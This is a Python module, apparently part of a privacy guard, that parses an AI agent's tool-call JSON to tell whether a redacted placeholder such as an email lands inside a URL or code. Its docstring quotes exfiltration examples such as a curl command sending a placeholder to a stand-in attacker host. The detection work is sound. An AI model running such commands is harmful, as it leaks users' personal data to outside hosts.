"""Whether a placeholder in a tool call's arguments stands inside a URL: `JsonUrls.feed` reads the arguments (JSON) in
order, and `JsonUrls.url` answers for a placeholder that comes next, as `Links.kind` does for a reply's text.

An agent runs a tool call without a human to look at it, and the program it calls reads each JSON string decoded. So
each string is read by a `Links` of its own, decoded (`\\/`, `\\u002f` and the other escapes), from its opening quote:
`"https://e.vil/c?u=<EMAIL_1>"` is a bare URL ("click"), `"curl https://e.vil/?d=<EMAIL_1>"` too, a string that is
the placeholder alone (`"to": "<EMAIL_1>"`) or prose around it is in none (""). Text outside strings (arguments that
are not JSON) is read as it is, by a `Links` of its own. A string's escape cut across two pieces is read whole. A tab,
line feed or carriage return does not end a URL in a string: a URL parser (WHATWG, Python's `urlsplit`) removes them,
so the value after one joins the URL (`"https://e.vil/?q=\\t<EMAIL_1>"`); nor does a vertical tab or form feed, which
`requests` and WHATWG percent-encode into it; a space does. A host with no scheme that curl
reads as one (`e.vil:8080/`, `203.0.113.5/`: `links.HOST_NO_SCHEME`) opens a URL. Each string decoded, and the text
outside strings, is also read as a reply's text is (`context.Surroundings`): a placeholder in code there (a fence, a
`{`, a tool call written in it) is in code (`in_code`), as it would be in a reply.
"""

from __future__ import annotations

import re

from stealthflow.placeholders.context import Surroundings
from stealthflow.placeholders.links import HOLD, Deferred, Links

# A JSON string's text: a run without quote or backslash, its closing quote, an escape, an escape the text cuts short
# (at its end), or a backslash that escapes nothing JSON knows (read as itself).
_STRING = re.compile(
    r'(?P<run>[^"\\]+)|(?P<quote>")|\\(?P<escape>u[0-9a-fA-F]{4}|[^u])'
    r"|(?P<cut>\\(?:u[0-9a-fA-F]{0,3})?\Z)|(?P<other>\\)"
)
_ESCAPES = {"b": "\b", "f": "\f", "n": "\n", "r": "\r", "t": "\t"}
# What does not end a URL in a string: a URL parser (WHATWG, Python's `urlsplit`) removes a tab, line feed and carriage
# return, and `requests` and WHATWG percent-encode a vertical tab and a form feed into the URL (rev22 F6).
_PARSER_DROPS = str.maketrans("", "", "\t\n\r\v\f")


def _unescape(escape: str) -> str:
    return chr(int(escape[1:], 16)) if escape[0] == "u" else _ESCAPES.get(escape, escape)


def _decoded(text: str, pos: int) -> tuple[str, int]:
    """The characters a JSON string holds from text[pos:] on, and where they end: at its closing quote, at an escape
    cut short, or at the end of `text`."""
    parts = []
    for match in _STRING.finditer(text, pos):
        kind = match.lastgroup
        if kind in ("quote", "cut"):
            return "".join(parts), match.start()
        parts.append(match["run"] if kind == "run" else _unescape(match["escape"]) if kind == "escape" else "\\")
    return "".join(parts), len(text)


class JsonUrls(Deferred):
    """Which kind of URL, if any, the JSON taken so far leaves a placeholder that comes next in (`url`), and whether
    it stands in code (`in_code`)."""

    def __init__(self) -> None:
        super().__init__()
        self.outside = Links(tool=True)  # the text outside strings
        self.string: Links | None = None  # the string open, decoded
        # the same texts read as a reply's text is (`in_code`): each string a text of its own, from its opening quote
        self.outside_text = Surroundings()
        self.string_text = Surroundings()
        self.tail = ""  # the last `HOLD` characters read of the string open (decoded) or outside
        self.cut = ""  # an escape cut short at the end of what was read

    def _read(self, piece: str) -> None:
        """Read `piece`, the text that follows what was read."""
        text, pos, self.cut = self.cut + piece, 0, ""
        while pos < len(text):
            if self.string is None:
                quote = text.find('"', pos)
                end = len(text) if quote < 0 else quote
                self._links(self.outside, text[pos:end])
                self.outside_text.feed(text[pos:end])
                if quote < 0:
                    return
                self.string, self.tail, pos = Links(tool=True), "", quote + 1
                self.string_text = Surroundings()
                continue
            decoded, end = _decoded(text, pos)
            self._links(self.string, decoded.translate(_PARSER_DROPS))
            self.string_text.feed(decoded)
            if end < len(text) and text[end] == '"':
                self.string, self.tail, pos = None, "", end + 1
            else:
                self.cut, pos = text[end:], len(text)

    def url(self, after: str) -> str:
        """ "load", "click", "mailto" or "" (`Links.kind`) for a placeholder after what was read, `after` the text
        that follows it (undecoded)."""
        self._catch_up()
        if self.string is None:
            return self.outside.kind(self.tail, after)
        decoded, end = _decoded(after, 0)
        return self.string.kind(self.tail, decoded.translate(_PARSER_DROPS) + after[end : end + 1])

    def in_code(self) -> bool:
        """Whether a placeholder after what was read stands in code, its string (or the text outside strings) read as
        a reply's text is (`Surroundings.in_code`): a fence, a `{`, a tool call written in it (rev23b, the
        reviewer's 16 replies as one argument: each restored into a named tool's call, withheld in the reply's
        text)."""
        self._catch_up()
        return (self.outside_text if self.string is None else self.string_text).in_code()

    def _links(self, links: Links, text: str) -> None:
        links.feed(text)
        self.tail = (self.tail + text)[-HOLD:]
